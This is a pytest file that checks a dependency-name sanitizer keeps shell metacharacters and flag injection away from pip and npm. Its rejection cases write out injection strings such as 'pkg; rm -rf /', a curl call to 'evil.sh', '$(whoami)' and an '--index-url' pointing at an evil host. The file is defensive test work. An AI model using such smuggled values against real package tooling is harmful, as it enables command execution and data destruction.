"""Dependency-name validation: shell metacharacters never reach a package manager."""

import pytest

from docproof.errors import DependencyRejectedError
from docproof.sandbox.dependencies import sanitize_dependency, validate_dependencies


class TestSanitizeDependency:
    @pytest.mark.parametrize(
        "name",
        [
            "requests",
            "scikit-learn>=1.0,<2",
            "uvicorn[standard]",
            "@types/node",
            "numpy~=1.26",
            "lodash@^4.17.21",
            "pkg!=0.3",
            "./vendor/lib",
        ],
    )
    def test_accepts_package_specs(self, name: str) -> None:
        assert sanitize_dependency(name) == name

    @pytest.mark.parametrize(
        "name",
        [
            "pkg; rm -rf /",
            "pkg && curl evil.sh",
            "pkg|sh",
            "$(whoami)",
            "`id`",
            "pkg name",
            "pkg\nother",
            "pkg>out.txt'",
        ],
    )
    def test_rejects_shell_metacharacters(self, name: str) -> None:
        with pytest.raises(DependencyRejectedError, match="Invalid characters"):
            sanitize_dependency(name)

    def test_rejects_empty_name(self) -> None:
        with pytest.raises(DependencyRejectedError, match="empty"):
            sanitize_dependency("")

    def test_rejects_leading_dash(self) -> None:
        """A leading dash would be parsed as a flag by pip or npm."""
        with pytest.raises(DependencyRejectedError, match="start with '-'"):
            sanitize_dependency("--index-url=http://evil")


def test_validate_dependencies_preserves_order_and_dedupes() -> None:
    assert validate_dependencies(["httpx", "click", "httpx"]) == ["httpx", "click"]


def test_validate_dependencies_fails_on_first_bad_name() -> None:
    with pytest.raises(DependencyRejectedError):
        validate_dependencies(["httpx", "evil;ls"])
